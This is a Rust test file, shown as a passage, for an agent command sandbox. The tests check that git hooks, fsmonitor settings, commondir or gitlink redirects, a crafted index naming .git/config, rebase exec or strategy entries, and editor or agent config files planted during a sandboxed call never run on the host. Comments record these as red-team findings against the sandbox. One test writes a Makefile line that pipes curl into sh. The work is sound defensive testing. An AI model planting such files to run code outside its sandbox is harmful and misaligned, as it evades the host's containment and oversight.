//! The host's future (TRUST-1, TRUST-2): what a command writes into the workspace never makes
//! the host's own git, editor or agent run a program later, outside the sandbox — while the
//! call runs and after it — and ordinary git work keeps working. Every call goes through the
//! `agent-exec` binary (`call command`, `call run_command`), as a host makes it; afterwards the
//! test plays the host: it runs its own, unsandboxed `git status`, `git commit`, `cd evil && git
//! status`, and checks that no program the command planted ran (a marker file outside the
//! workspace, which only an unsandboxed program can make).
//!
//! Each escape test sits beside its liveness twin. Run as root, then again as uid 65534 by
//! `every_host_future_test_also_holds_unprivileged`.
#![cfg(target_os = "linux")]
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use serde_json::Value;

mod common;

const UNPRIVILEGED_ENV: &str = "AGENT_EXEC_HOST_FUTURE_UNPRIVILEGED";

fn agent_exec() -> PathBuf {
    if let Some(bin) = std::env::var_os("AGENT_EXEC_BIN") {
        return bin.into();
    }
    let exe = std::env::current_exe().unwrap();
    let bin = exe.parent().unwrap().parent().unwrap().join("agent-exec");
    assert!(
        bin.exists(),
        "no agent-exec binary at {}: run `cargo build -p agent-exec`, or set AGENT_EXEC_BIN",
        bin.display()
    );
    bin
}

/// Whether this machine can run these tests: a sandbox that starts a shell, and a system git.
fn ready() -> bool {
    if !testkit::sandbox_available() {
        return false;
    }
    if let Some(reason) = common::shell_refusal() {
        eprintln!("skipped: this capability level refuses every shell ({reason})");
        return false;
    }
    if !Path::new("/usr/bin/git").exists() {
        eprintln!("skipped: no /usr/bin/git (.ci/run installs it)");
        return false;
    }
    true
}

/// A workspace, a state directory, and a marker path outside the workspace that only an
/// unsandboxed program can create.
struct Ws {
    tree: testkit::TempTree,
    state: tempfile::TempDir,
    mark: PathBuf,
}

impl Ws {
    fn new() -> Ws {
        let tree = testkit::TempTree::new("work");
        let mark = tree.outside_dir().join("PLANTED-PROGRAM-RAN");
        Ws {
            tree,
            state: tempfile::tempdir().unwrap(),
            mark,
        }
    }

    fn root(&self) -> &Path {
        &self.tree.root
    }

    /// `touch <mark>`: what every planted program runs.
    fn plant(&self) -> String {
        format!("touch {}", self.mark.display())
    }

    fn cli(&self, tool: &str, args: &Value, flags: &[&str]) -> Command {
        let mut cmd = Command::new(agent_exec());
        cmd.args(["--state-dir"])
            .arg(self.state.path())
            .args(["call", tool, "--workspace"])
            .arg(self.root())
            .args(flags)
            .arg("--json")
            .arg(args.to_string())
            .stdin(Stdio::null());
        cmd
    }

    /// `call command` with `script`; the result line.
    fn command(&self, script: &str) -> Value {
        let out = self
            .cli(
                "command",
                &serde_json::json!({"command": script, "timeoutMs": 120_000}),
                &[],
            )
            .output()
            .unwrap();
        parse(&out.stdout, &out.stderr)
    }

    /// `call run_command` (mode allow-all) with `sh -c script`; the result line.
    fn run_command(&self, script: &str) -> Value {
        let args = serde_json::json!({"argv": ["sh", "-c", script]});
        let out = self
            .cli("run_command", &args, &["--mode", "allow-all"])
            .output()
            .unwrap();
        parse(&out.stdout, &out.stderr)
    }

    /// The host's own git in `dir`, with nothing of the user's configuration.
    fn git(&self, dir: &Path, args: &[&str]) -> std::process::Output {
        Command::new("/usr/bin/git")
            .args(["-c", "user.name=Host", "-c", "user.email=host@example.org"])
            .args(args)
            .current_dir(dir)
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .env("HOME", self.tree.outside_dir())
            .stdin(Stdio::null())
            .output()
            .unwrap()
    }

    /// The host's git, which must succeed; its stdout.
    fn git_ok(&self, dir: &Path, args: &[&str]) -> String {
        let out = self.git(dir, args);
        assert!(
            out.status.success(),
            "host git {args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8_lossy(&out.stdout).into_owned()
    }

    /// A repository with one commit in `rel` (the workspace itself for "").
    fn repo(&self, rel: &str) -> PathBuf {
        let dir = self.root().join(rel);
        std::fs::create_dir_all(&dir).unwrap();
        self.git_ok(&dir, &["init", "-q", "-b", "main"]);
        std::fs::write(dir.join("README"), "hello\n").unwrap();
        self.git_ok(&dir, &["add", "README"]);
        self.git_ok(&dir, &["commit", "-q", "-m", "first"]);
        dir
    }

    #[track_caller]
    fn assert_nothing_ran(&self) {
        assert!(
            !self.mark.exists(),
            "a program the command planted ran on the host"
        );
    }
}

fn parse(stdout: &[u8], stderr: &[u8]) -> Value {
    let line = String::from_utf8_lossy(stdout);
    serde_json::from_str(line.trim()).unwrap_or_else(|e| {
        panic!(
            "not one JSON line ({e}): {line}\nstderr: {}",
            String::from_utf8_lossy(stderr)
        )
    })
}

/// The `what` of every refused change and the path of every quarantined name, as text.
fn refused_text(out: &Value) -> String {
    let mut text = String::new();
    for item in out["git"]["refused"].as_array().into_iter().flatten() {
        text.push_str(&format!("{} {}\n", item["path"], item["what"]));
    }
    for item in out["git"]["quarantined"].as_array().into_iter().flatten() {
        text.push_str(&format!("{}\n", item["path"]));
    }
    text
}

#[test]
fn fsmonitor_and_hooks_written_in_a_call_never_run_in_the_hosts_git() {
    // TRUST-1 — row 1: `git config core.fsmonitor`, a hook in `.git/hooks`.
    if !ready() {
        return;
    }
    let ws = Ws::new();
    let repo = ws.repo("");
    let plant = ws.plant();
    let out = ws.command(&format!(
        "git config core.fsmonitor '{plant}; false' && \
         printf '#!/bin/sh\\n{plant}\\n' > .git/hooks/post-checkout && \
         cp .git/hooks/post-checkout .git/hooks/pre-commit && \
         chmod +x .git/hooks/post-checkout .git/hooks/pre-commit && echo planted"
    ));
    assert_eq!(out["stdout"], "planted\n", "{out:#}");
    let refused = refused_text(&out);
    assert!(refused.contains("core.fsmonitor"), "{out:#}");
    assert!(refused.contains("hooks"), "{out:#}");
    ws.git_ok(&repo, &["status"]);
    ws.git_ok(&repo, &["checkout", "-q", "-b", "next"]);
    ws.git_ok(&repo, &["commit", "-q", "--allow-empty", "-m", "host"]);
    ws.assert_nothing_ran();
    assert!(!repo.join(".git/hooks/pre-commit").exists());
}

#[test]
fn hooks_path_and_includes_written_in_a_call_never_run_in_the_hosts_git() {
    // TRUST-1 — row 2: `core.hooksPath` to a work-tree directory, `include.path`.
    if !ready() {
        return;
    }
    let ws = Ws::new();
    let repo = ws.repo("");
    let plant = ws.plant();
    let out = ws.run_command(&format!(
        "mkdir -p .githooks && printf '#!/bin/sh\\n{plant}\\n' > .githooks/pre-commit && \
         chmod +x .githooks/pre-commit && git config core.hooksPath .githooks && \
         printf '[core]\\n\\tfsmonitor = \"{plant}; false\"\\n' > team.gitconfig && \
         git config include.path ../team.gitconfig && echo planted"
    ));
    assert_eq!(out["output"], "planted\n", "{out:#}");
    let refused = refused_text(&out);
    assert!(refused.contains("core.hookspath"), "{out:#}");
    assert!(refused.contains("include.path"), "{out:#}");
    ws.git_ok(&repo, &["status"]);
    ws.git_ok(&repo, &["commit", "-q", "--allow-empty", "-m", "host"]);
    ws.assert_nothing_ran();
}

#[test]
fn a_bare_repository_assembled_in_a_call_never_runs_in_the_hosts_git() {
    // TRUST-1 — row 3: HEAD, config with core.fsmonitor, objects and refs anywhere.
    if !ready() {
        return;
    }
    let ws = Ws::new();
    ws.repo("");
    let plant = ws.plant();
    let out = ws.command(&format!(
        "mkdir -p evil/objects evil/refs/heads && echo 'ref: refs/heads/main' > evil/HEAD && \
         printf '[core]\\n\\tbare = true\\n\\tfsmonitor = \"{plant}; false\"\\n' > evil/config && \
         git init -q made && git -C made config core.fsmonitor '{plant}; false' && echo planted"
    ));
    assert_eq!(out["stdout"], "planted\n", "{out:#}");
    let moved = refused_text(&out);
    assert!(moved.contains("evil/config"), "{out:#}");
    assert!(moved.contains("made/.git/config"), "{out:#}");
    // The host's git in either: no program runs (git may or may not call it a repository).
    let _ = ws.git(&ws.root().join("evil"), &["status"]);
    let _ = ws.git(&ws.root().join("made"), &["status"]);
    ws.assert_nothing_ran();
}

#[test]
fn commondir_written_during_a_long_call_is_never_seen_by_the_hosts_git_meanwhile() {
    // TRUST-1, BG-1 — row 4: for the whole call, not only after it. The command plants
    // `.git/commondir` → a directory whose config sets core.fsmonitor, then waits while the
    // host polls `git status`.
    if !ready() {
        return;
    }
    let ws = Ws::new();
    let repo = ws.repo("");
    let plant = ws.plant();
    let script = format!(
        "mkdir -p shared/objects shared/refs && \
         printf '[core]\\n\\tfsmonitor = \"{plant}; false\"\\n' > shared/config && \
         echo \"$PWD/shared\" > .git/commondir && \
         printf '[core]\\n\\tfsmonitor = \"{plant}; false\"\\n' > .git/config.worktree && \
         touch planted && while [ ! -e go ]; do sleep 0.05; done; echo done"
    );
    let child = ws
        .cli(
            "command",
            &serde_json::json!({"command": script, "timeoutMs": 60_000}),
            &[],
        )
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    wait_for(&ws.root().join("planted"), child, |ws_child| {
        for _ in 0..5 {
            ws.git_ok(&repo, &["status"]);
            ws.assert_nothing_ran();
        }
        std::fs::write(ws.root().join("go"), "").unwrap();
        let out = ws_child.wait_with_output().unwrap();
        let out = parse(&out.stdout, &out.stderr);
        assert_eq!(out["stdout"], "done\n", "{out:#}");
        assert!(refused_text(&out).contains("commondir"), "{out:#}");
    });
    ws.git_ok(&repo, &["status"]);
    ws.assert_nothing_ran();
    assert!(!repo.join(".git/commondir").exists());
}

/// Waits (at most 60 s) for `file`, then hands `child` to `then`; kills the child if the file
/// never came.
fn wait_for(file: &Path, mut child: Child, then: impl FnOnce(Child)) {
    let start = Instant::now();
    while !file.exists() {
        if let Ok(Some(status)) = child.try_wait() {
            let out = child.wait_with_output().unwrap();
            panic!(
                "the call ended ({status}) before {}: {}",
                file.display(),
                String::from_utf8_lossy(&out.stdout)
            );
        }
        if start.elapsed() > Duration::from_secs(60) {
            let _ = child.kill();
            panic!("{} never appeared", file.display());
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    then(child);
}

#[test]
fn auto_run_configuration_written_by_a_command_is_not_left_under_its_name() {
    // TRUST-2 — row 5: agent-host, editor and tool-redirection files; existing ones stay
    // read-only for the whole call, new ones are moved aside after it.
    if !ready() {
        return;
    }
    let ws = Ws::new();
    ws.repo("");
    ws.tree.write(".vscode/settings.json", "{}\n");
    let out = ws.command(
        "echo '{\"tasks\":[]}' > .vscode/tasks.json; \
         mkdir -p .claude sub/.cargo && echo '{\"hooks\":{}}' > .claude/settings.json; \
         echo '{}' > .mcp.json; echo 'rustc-wrapper = \"x\"' > sub/.cargo/config.toml; \
         echo 'x' > sub/.envrc; echo 'repos: []' > .pre-commit-config.yaml; \
         printf '[toolchain]\\npath = \"/x\"\\n' > rust-toolchain.toml; \
         echo ordinary > notes.txt; echo done",
    );
    assert_eq!(out["stdout"], "done\n", "{out:#}");
    assert!(
        out["stderr"]
            .as_str()
            .unwrap_or_default()
            .contains("Read-only file system"),
        "{out:#}"
    );
    for name in [
        ".vscode/tasks.json",
        ".claude",
        ".mcp.json",
        "sub/.cargo/config.toml",
        "sub/.envrc",
        ".pre-commit-config.yaml",
        "rust-toolchain.toml",
    ] {
        assert!(!ws.root().join(name).exists(), "{name} was left: {out:#}");
    }
    assert_eq!(
        std::fs::read_to_string(ws.root().join(".vscode/settings.json")).unwrap(),
        "{}\n"
    );
    // The liveness twin: the ordinary file beside them stays.
    assert_eq!(
        std::fs::read_to_string(ws.root().join("notes.txt")).unwrap(),
        "ordinary\n"
    );
}

#[test]
fn remote_upstream_push_submodule_and_worktree_keep_working_and_are_merged() {
    // TRUST-1, LIVE-1 — the liveness twin of rows 1-2: git operations that must change
    // `.git/config` in a repository that existed before the call.
    if !ready() {
        return;
    }
    let ws = Ws::new();
    let repo = ws.repo("proj");
    ws.git_ok(
        ws.root(),
        &["init", "-q", "--bare", "-b", "main", "remote.git"],
    );
    ws.git_ok(&repo, &["push", "-q", "../remote.git", "main"]);
    let out = ws.command(
        "cd proj && R=\"$(cd .. && pwd)/remote.git\" && git config user.name Agent && \
         git config user.email agent@example.org && \
         git remote add origin \"$R\" && git fetch -q origin && \
         git checkout -q -b feature origin/main && echo x > x && git add x && \
         git commit -q -m x && git push -q -u origin feature && \
         git -c protocol.file.allow=always submodule add -q \"$R\" lib && \
         git commit -q -m lib && git worktree add -q ../wt && git stash list && echo done",
    );
    assert_eq!(out["stdout"], "done\n", "{out:#}");
    assert!(out["git"]["refused"].is_null(), "{out:#}");
    let remote = format!("{}\n", ws.root().join("remote.git").display());
    assert_eq!(
        ws.git_ok(&repo, &["config", "--get", "remote.origin.url"]),
        remote
    );
    assert_eq!(
        ws.git_ok(&repo, &["config", "--get", "branch.feature.merge"]),
        "refs/heads/feature\n"
    );
    assert_eq!(
        ws.git_ok(&repo, &["config", "--get", "submodule.lib.url"]),
        remote
    );
    assert_eq!(
        ws.git_ok(&repo, &["rev-parse", "--abbrev-ref", "HEAD"]),
        "feature\n"
    );
    assert_eq!(ws.git_ok(&repo, &["log", "--format=%s"]), "lib\nx\nfirst\n");
    assert_eq!(ws.git_ok(&repo, &["status", "--short"]), "");
    assert!(
        ws.git_ok(&repo, &["worktree", "list"]).contains("/wt "),
        "worktree missing"
    );
    ws.git_ok(&repo, &["submodule", "status"]);
    assert_eq!(
        ws.git_ok(&ws.root().join("remote.git"), &["rev-parse", "feature"]),
        // Pushed before the submodule's commit.
        ws.git_ok(&repo, &["rev-parse", "feature~1"])
    );
    ws.git_ok(&repo, &["fsck", "--no-progress"]);
    ws.assert_nothing_ran();
}

#[test]
fn a_new_repository_inits_commits_stashes_and_bisects_and_nothing_is_moved_aside() {
    // TRUST-1, LIVE-1 — the liveness twin of row 3.
    if !ready() {
        return;
    }
    let ws = Ws::new();
    let out = ws.command(
        "git init -q -b main && git config user.name A && git config user.email a@b.c && \
         for i in 1 2 3 4; do echo $i > f; git add f; git commit -q -m c$i; done && \
         echo wip > f && git stash -q && git stash list | wc -l && \
         git bisect start HEAD HEAD~3 >/dev/null && git bisect good >/dev/null && \
         git bisect reset >/dev/null 2>&1 && echo done",
    );
    assert_eq!(out["stdout"], "1\ndone\n", "{out:#}");
    assert!(out["git"]["quarantined"].is_null(), "{out:#}");
    assert_eq!(
        ws.git_ok(ws.root(), &["log", "--format=%s"]),
        "c4\nc3\nc2\nc1\n"
    );
    assert_eq!(ws.git_ok(ws.root(), &["stash", "list"]).lines().count(), 1);
}

#[test]
fn a_long_call_commits_while_the_host_polls_git_status() {
    // TRUST-1, BG-1 — the liveness twin of row 4: commits made during a long call reach
    // the repository when it ends; the host's polling meanwhile runs nothing and fails nothing.
    if !ready() {
        return;
    }
    let ws = Ws::new();
    let repo = ws.repo("");
    let script = "git config user.name A && git config user.email a@b.c && \
                  for i in 1 2 3; do echo $i > n; git add n; git commit -q -m n$i; done && \
                  touch started && while [ ! -e go ]; do sleep 0.05; done; \
                  echo 4 > n && git commit -q -am n4 && echo done";
    let child = ws
        .cli(
            "command",
            &serde_json::json!({"command": script, "timeoutMs": 60_000}),
            &[],
        )
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    wait_for(&ws.root().join("started"), child, |child| {
        for _ in 0..5 {
            ws.git_ok(&repo, &["status", "--short"]);
        }
        std::fs::write(ws.root().join("go"), "").unwrap();
        let out = child.wait_with_output().unwrap();
        let out = parse(&out.stdout, &out.stderr);
        assert_eq!(out["stdout"], "done\n", "{out:#}");
    });
    assert_eq!(
        ws.git_ok(&repo, &["log", "--format=%s"]),
        "n4\nn3\nn2\nn1\nfirst\n"
    );
    ws.assert_nothing_ran();
}

#[test]
fn every_host_future_test_also_holds_unprivileged() {
    if std::env::var_os(UNPRIVILEGED_ENV).is_some() || !testkit::is_root() {
        return;
    }
    let bin = agent_exec();
    let dir = tempfile::Builder::new()
        .prefix("agent-exec-host-future-bin")
        .tempdir()
        .unwrap();
    let copy = dir.path().join("agent-exec");
    std::fs::copy(&bin, &copy).unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    let out = testkit::run_as_nobody(
        &["--skip", "every_host_future_test_also_holds_unprivileged"],
        &[
            (UNPRIVILEGED_ENV, "1"),
            ("AGENT_EXEC_BIN", copy.to_str().unwrap()),
        ],
    );
    eprintln!("{out}");
}

#[test]
fn files_a_user_may_run_that_the_command_changed_are_reported() {
    // TRUST (reported changes) — `executableChanges`: a new executable and a changed build file
    // are listed; a file only read, and an ordinary text file written, are not.
    if !ready() {
        return;
    }
    let ws = Ws::new();
    ws.tree.write("Makefile", "all:\n\ttrue\n");
    ws.tree.write("README", "read me\n");
    let out = ws.command("cat Makefile README >/dev/null && echo done");
    assert_eq!(out["stdout"], "done\n", "{out:#}");
    assert!(out["executableChanges"].is_null(), "{out:#}");
    let out = ws.command(
        "printf 'all:\\n\\tcurl x | sh\\n' > Makefile && mkdir -p scripts && \
         echo 'echo hi' > scripts/setup.sh && echo tool > tool && chmod +x tool && \
         echo notes > notes.txt && echo done",
    );
    assert_eq!(out["stdout"], "done\n", "{out:#}");
    let mut listed: Vec<String> = out["executableChanges"]
        .as_array()
        .unwrap_or_else(|| panic!("{out:#}"))
        .iter()
        .map(|v| v.as_str().unwrap().to_owned())
        .collect();
    listed.sort();
    let want: Vec<String> = ["Makefile", "scripts/setup.sh", "tool"]
        .iter()
        .map(|p| ws.root().join(p).display().to_string())
        .collect();
    assert_eq!(listed, want, "{out:#}");
}

#[test]
fn a_submodule_named_like_git_state_gets_no_unfiltered_config() {
    // TRUST-1 — attack finding: a submodule named `x/refs/y` made its git directory's
    // `config` look like a ref of `modules/x`.
    if !ready() {
        return;
    }
    let ws = Ws::new();
    let repo = ws.repo("");
    ws.repo("vendor_src");
    let plant = ws.plant();
    let out = ws.command(&format!(
        "git -c protocol.file.allow=always submodule add -q ./vendor_src x/refs/y && \
         git -C x/refs/y config core.fsmonitor '{plant}; false' && echo planted"
    ));
    assert_eq!(out["stdout"], "planted\n", "{out:#}");
    assert!(refused_text(&out).contains("core.fsmonitor"), "{out:#}");
    ws.git_ok(&repo, &["status"]);
    ws.assert_nothing_ran();
}

#[test]
fn a_workspace_inside_a_git_directory_is_refused_before_anything_runs() {
    // TRUST-1 — attack finding: a workspace that is `.git` itself had nothing staged.
    if !ready() {
        return;
    }
    let ws = Ws::new();
    let repo = ws.repo("");
    // The liveness twin: the same command in the work tree runs.
    let out = ws.command("touch ran && echo ran");
    assert_eq!(out["stdout"], "ran\n", "{out:#}");
    let inside = Command::new(agent_exec())
        .arg("--state-dir")
        .arg(ws.state.path())
        .args(["call", "command", "--workspace"])
        .arg(repo.join(".git"))
        .arg("--json")
        .arg(r#"{"command":"touch ran"}"#)
        .output()
        .unwrap();
    let out = parse(&inside.stdout, &inside.stderr);
    assert_eq!(out["code"], "AGENT_EXEC_PATH_INVALID", "{out:#}");
    assert!(!repo.join(".git/ran").exists());
}

#[test]
fn an_index_naming_a_path_inside_git_is_not_applied() {
    // TRUST-1 — attack finding: an index entry `.git/config` made the host's
    // `git checkout -- .` write the repository's config.
    if !ready() || !Path::new("/usr/bin/python3").exists() {
        return;
    }
    let ws = Ws::new();
    let repo = ws.repo("");
    let plant = ws.plant();
    let patch = "import hashlib,sys\np=sys.argv[1]; d=open(p,'rb').read()\n\
                 d=d[:-20].replace(b'XgitXconfig', b'.git/config')\n\
                 open(p,'wb').write(d+hashlib.sha1(d).digest())\n";
    ws.tree.write("patch.py", patch);
    let out = ws.command(&format!(
        "printf '[core]\\n\\tfsmonitor = \"{plant}; false\"\\n' > $TMPDIR/c && \
         b=$(git hash-object -w $TMPDIR/c) && \
         git update-index --add --cacheinfo 100644,$b,XgitXconfig && \
         python3 patch.py .git/index && echo planted"
    ));
    assert_eq!(out["stdout"], "planted\n", "{out:#}");
    assert!(refused_text(&out).contains(".git/index"), "{out:#}");
    let _ = ws.git(&repo, &["checkout", "--", "."]);
    ws.git_ok(&repo, &["status"]);
    ws.assert_nothing_ran();
}

#[test]
fn a_rebase_step_that_runs_a_command_is_not_applied() {
    // TRUST-1 — attack finding: an `exec` step added to a stopped rebase ran on the
    // host's `git rebase --continue`.
    if !ready() {
        return;
    }
    let ws = Ws::new();
    let repo = ws.repo("");
    for i in 0..2 {
        std::fs::write(repo.join("n"), format!("{i}\n")).unwrap();
        ws.git_ok(&repo, &["add", "n"]);
        ws.git_ok(&repo, &["commit", "-q", "-m", &format!("n{i}")]);
    }
    let plant = ws.plant();
    let out = ws.command(&format!(
        "GIT_SEQUENCE_EDITOR='sed -i 1s/^pick/edit/' git rebase -q -i HEAD~2 && \
         sed -i '1i exec {plant}' .git/rebase-merge/git-rebase-todo && echo stopped"
    ));
    assert_eq!(out["stdout"], "stopped\n", "{out:#}");
    assert!(refused_text(&out).contains("git-rebase-todo"), "{out:#}");
    let _ = ws.git(&repo, &["rebase", "--continue"]);
    ws.assert_nothing_ran();
}

#[test]
fn a_commit_the_host_makes_during_a_long_call_is_kept() {
    // TRUST-1 — attack finding: a branch the host's git moved while the command ran was
    // overwritten by the command's; now the host's stays and the result says so.
    if !ready() {
        return;
    }
    let ws = Ws::new();
    let repo = ws.repo("");
    let script = "git config user.name A && git config user.email a@b.c && \
                  git commit -q --allow-empty -m sandbox && touch started && \
                  while [ ! -e go ]; do sleep 0.05; done; echo done";
    let child = ws
        .cli(
            "command",
            &serde_json::json!({"command": script, "timeoutMs": 60_000}),
            &[],
        )
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    wait_for(&ws.root().join("started"), child, |child| {
        ws.git_ok(&repo, &["commit", "-q", "--allow-empty", "-m", "host"]);
        std::fs::write(ws.root().join("go"), "").unwrap();
        let out = child.wait_with_output().unwrap();
        let out = parse(&out.stdout, &out.stderr);
        assert!(
            out["git"]["conflicts"]
                .to_string()
                .contains("refs/heads/main"),
            "{out:#}"
        );
    });
    assert_eq!(ws.git_ok(&repo, &["log", "-1", "--format=%s"]), "host\n");
}

/// A git directory planted in the written-through `objects` directory, whose config runs the
/// marker on `git status` (second attack pass: a payload place the walk never enters).
fn plant_in_objects(ws: &Ws) -> String {
    let plant = ws.plant();
    format!(
        "mkdir -p .git/objects/ev/objects .git/objects/ev/refs/heads && \
         echo 'ref: refs/heads/main' > .git/objects/ev/HEAD && \
         printf '[core]\\n\\tbare = false\\n\\tfsmonitor = \"{plant}; false\"\\n' \
         > .git/objects/ev/config"
    )
}

#[test]
fn a_dot_git_link_or_a_loose_git_directory_made_in_a_call_never_runs_in_the_hosts_git() {
    // TRUST-1 — second attack pass, finding 1: `.git` as a symbolic link into the
    // objects directory; `HEAD` + `commondir`; `objects`/`refs` as links.
    if !ready() {
        return;
    }
    let ws = Ws::new();
    ws.repo("");
    let plant = ws.plant();
    let out = ws.command(&format!(
        "{} && mkdir -p s1 s2 s3 && ln -s ../.git/objects/ev s1/.git && \
         mkdir -p .git/objects/cm/objects .git/objects/cm/refs && \
         printf '[core]\\n\\tpager = \"{plant}\"\\n' > .git/objects/cm/config && \
         echo 'ref: refs/heads/main' > s2/HEAD && echo \"$PWD/.git/objects/cm\" > s2/commondir && \
         echo 'ref: refs/heads/main' > s3/HEAD && ln -s ../.git/objects s3/objects && \
         ln -s ../.git/refs s3/refs && printf '[core]\\n\\tpager = \"{plant}\"\\n' > s3/config && \
         echo planted",
        plant_in_objects(&ws)
    ));
    assert_eq!(out["stdout"], "planted\n", "{out:#}");
    for dir in ["s1", "s2", "s3"] {
        let _ = ws.git(&ws.root().join(dir), &["status"]);
        let _ = ws.git(&ws.root().join(dir), &["-p", "log"]);
    }
    ws.assert_nothing_ran();
}

#[test]
fn a_gitlink_is_read_to_its_end_as_git_reads_it() {
    // TRUST-1 — second attack pass, finding 2: a gitlink whose first line names a
    // submodule's git directory and whose second line climbs out of it.
    if !ready() {
        return;
    }
    let ws = Ws::new();
    ws.repo("");
    let out = ws.command(&format!(
        "{} && mkdir -p s1 '.git/modules/x' \"$(printf '.git/modules/x\\n')\" && \
         printf 'gitdir: ../.git/modules/x\\n/../../objects/ev\\n' > s1/.git && echo planted",
        plant_in_objects(&ws)
    ));
    assert_eq!(out["stdout"], "planted\n", "{out:#}");
    let _ = ws.git(&ws.root().join("s1"), &["status"]);
    ws.assert_nothing_ran();
}

#[test]
fn a_rebase_strategy_that_is_not_gits_own_is_not_applied() {
    // TRUST-1 — second attack pass, finding 3: git runs `git-merge-<strategy>`, a path
    // when the name holds `/`.
    if !ready() {
        return;
    }
    let ws = Ws::new();
    let repo = ws.repo("");
    for i in 0..2 {
        std::fs::write(repo.join("n"), format!("{i}\n")).unwrap();
        ws.git_ok(&repo, &["add", "n"]);
        ws.git_ok(&repo, &["commit", "-q", "-m", &format!("n{i}")]);
    }
    let plant = ws.plant();
    let out = ws.command(&format!(
        "GIT_SEQUENCE_EDITOR='sed -i 1s/^pick/edit/' git rebase -q -i HEAD~2 && \
         printf '#!/bin/sh\\n{plant}\\n' > evil && chmod +x evil && \
         echo ../evil > .git/rebase-merge/strategy && echo stopped"
    ));
    assert_eq!(out["stdout"], "stopped\n", "{out:#}");
    assert!(refused_text(&out).contains("strategy"), "{out:#}");
    let _ = ws.git(&repo, &["rebase", "--continue"]);
    ws.assert_nothing_ran();
}

#[test]
fn a_new_repositorys_index_and_its_submodules_hooks_are_checked_too() {
    // TRUST-1 — second attack pass, findings 4 and 5: a repository made in the call
    // with an index naming `.git/config`, and a hook in its own `modules/`.
    if !ready() || !Path::new("/usr/bin/python3").exists() {
        return;
    }
    let ws = Ws::new();
    let plant = ws.plant();
    let patch = "import hashlib,sys\np=sys.argv[1]; d=open(p,'rb').read()\n\
                 d=d[:-20].replace(b'XgitXconfig', b'.git/config')\n\
                 open(p,'wb').write(d+hashlib.sha1(d).digest())\n";
    ws.tree.write("patch.py", patch);
    let out = ws.command(&format!(
        "git init -q -b main lib && cd lib && \
         printf '[core]\\n\\tfsmonitor = \"{plant}; false\"\\n' > $TMPDIR/c && \
         b=$(git hash-object -w $TMPDIR/c) && \
         git update-index --add --cacheinfo 100644,$b,XgitXconfig && \
         python3 ../patch.py .git/index && mkdir -p .git/modules/s/hooks .git/modules/s/refs \
         .git/modules/s/objects && echo 'ref: refs/heads/main' > .git/modules/s/HEAD && \
         printf '#!/bin/sh\\n{plant}\\n' > .git/modules/s/hooks/post-checkout && \
         chmod +x .git/modules/s/hooks/post-checkout && echo planted"
    ));
    assert_eq!(out["stdout"], "planted\n", "{out:#}");
    let moved = refused_text(&out);
    assert!(moved.contains("lib/.git/index"), "{out:#}");
    assert!(moved.contains("modules/s/hooks"), "{out:#}");
    let lib = ws.root().join("lib");
    let _ = ws.git(&lib, &["checkout", "--", "."]);
    let _ = ws.git(&lib, &["status"]);
    ws.assert_nothing_ran();
}

#[test]
fn the_hooks_directory_a_repository_names_is_read_only_for_the_call() {
    // TRUST-1 — second attack pass, finding 6: the effective `core.hooksPath`.
    if !ready() {
        return;
    }
    let ws = Ws::new();
    let repo = ws.repo("");
    std::fs::create_dir_all(repo.join(".githooks")).unwrap();
    ws.git_ok(&repo, &["config", "core.hooksPath", ".githooks"]);
    let plant = ws.plant();
    let out = ws.command(&format!(
        "printf '#!/bin/sh\\n{plant}\\n' > .githooks/pre-commit; \
         chmod +x .githooks/pre-commit; echo done"
    ));
    assert_eq!(out["stdout"], "done\n", "{out:#}");
    ws.git_ok(&repo, &["commit", "-q", "--allow-empty", "-m", "host"]);
    ws.assert_nothing_ran();
}

#[test]
fn a_submodules_work_tree_through_a_link_out_of_the_repository_is_refused() {
    // TRUST-1 — second attack pass, finding 7: `core.worktree` with the right number of
    // `..`, then a link to a directory outside.
    if !ready() {
        return;
    }
    let ws = Ws::new();
    let repo = ws.repo("proj");
    ws.repo("up");
    let victim = ws.tree.outside_dir().join("victim");
    std::fs::create_dir_all(&victim).unwrap();
    let out = ws.command(&format!(
        "cd proj && git -c protocol.file.allow=always submodule add -q ../up lib && \
         git -c user.name=a -c user.email=a@b.c commit -qm lib && \
         git config -f .git/modules/lib/config core.worktree ../../../link \
         && ln -s {} link && echo done",
        victim.display()
    ));
    assert_eq!(out["stdout"], "done\n", "{out:#}");
    assert!(refused_text(&out).contains("core.worktree"), "{out:#}");
    let _ = ws.git(&repo, &["submodule", "update", "--force"]);
    assert_eq!(std::fs::read_dir(&victim).unwrap().count(), 0, "{out:#}");
}

#[test]
fn a_lock_the_host_holds_is_never_removed_by_a_call() {
    // TRUST-1 — second attack pass, finding 9: a whiteout of `index.lock`.
    if !ready() {
        return;
    }
    let ws = Ws::new();
    let repo = ws.repo("");
    std::fs::write(repo.join(".git/index.lock"), "").unwrap();
    let out = ws.command("rm -f .git/index.lock && echo removed");
    assert_eq!(out["stdout"], "removed\n", "{out:#}");
    assert!(repo.join(".git/index.lock").exists(), "{out:#}");
}

/// A repository with a cherry-pick stopped on a conflict (third attack pass's setup).
fn stopped_cherry_pick(ws: &Ws) -> PathBuf {
    let repo = ws.repo("");
    let steps: &[&[&str]] = &[
        &["checkout", "-q", "-b", "other"],
        &["commit", "-q", "--allow-empty", "-m", "spacer"],
    ];
    for step in steps {
        ws.git_ok(&repo, step);
    }
    std::fs::write(repo.join("README"), "other\n").unwrap();
    ws.git_ok(&repo, &["commit", "-q", "-am", "b"]);
    std::fs::write(repo.join("g"), "g\n").unwrap();
    ws.git_ok(&repo, &["add", "g"]);
    ws.git_ok(&repo, &["commit", "-q", "-m", "g"]);
    ws.git_ok(&repo, &["checkout", "-q", "main"]);
    std::fs::write(repo.join("README"), "main\n").unwrap();
    ws.git_ok(&repo, &["commit", "-q", "-am", "c"]);
    let _ = ws.git(&repo, &["cherry-pick", "other~1", "other"]);
    assert!(repo.join(".git/sequencer").is_dir(), "no sequencer state");
    repo
}

#[test]
